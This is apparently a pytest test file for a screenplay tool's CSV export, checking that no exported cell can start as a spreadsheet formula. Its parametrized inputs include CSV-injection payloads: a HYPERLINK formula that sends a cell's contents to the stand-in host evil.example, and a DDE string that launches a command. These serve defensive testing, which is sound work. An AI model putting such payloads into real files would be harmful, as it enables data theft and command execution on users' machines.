"""A table for a spreadsheet holds text: whatever a script says, no cell of it is computed."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storyroom.domain.tables import csv_of


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\u200b=1+1",
        "%0A=1",
        "|calc",
    ],
)
def test_no_cell_begins_as_a_formula(cell: str) -> None:
    ((_, got),) = _read(csv_of(["a", "b"], [["x", cell]]))[1:]
    assert got.strip()[0] in {"'", "\u27e8", "\u2400"} or got.strip()[0] not in "=+-@|%\t\r"


def test_numbers_stay_numbers_and_quotes_and_lines_stay_in_their_cell() -> None:
    data = csv_of(["scene", "heading"], [[-3, 'INT. "THE" BAR, NIGHT\nCONTINUOUS'], [4, ""]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert _read(data) == [["scene", "heading"], ["-3", 'INT. "THE" BAR, NIGHT\nCONTINUOUS'], ["4", ""]]


@given(st.lists(st.lists(st.text(max_size=30), min_size=3, max_size=3), max_size=6))
def test_any_text_comes_back_in_as_many_cells_and_none_is_a_formula(rows: list[list[str]]) -> None:
    got = _read(csv_of(["a", "b", "c"], rows))
    assert [len(row) for row in got] == [3] * (len(rows) + 1)
    for row in got:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "|", "%", "\uff1d"))
            assert all(letter.isprintable() or letter in "\n\u200c\u200d" for letter in cell)
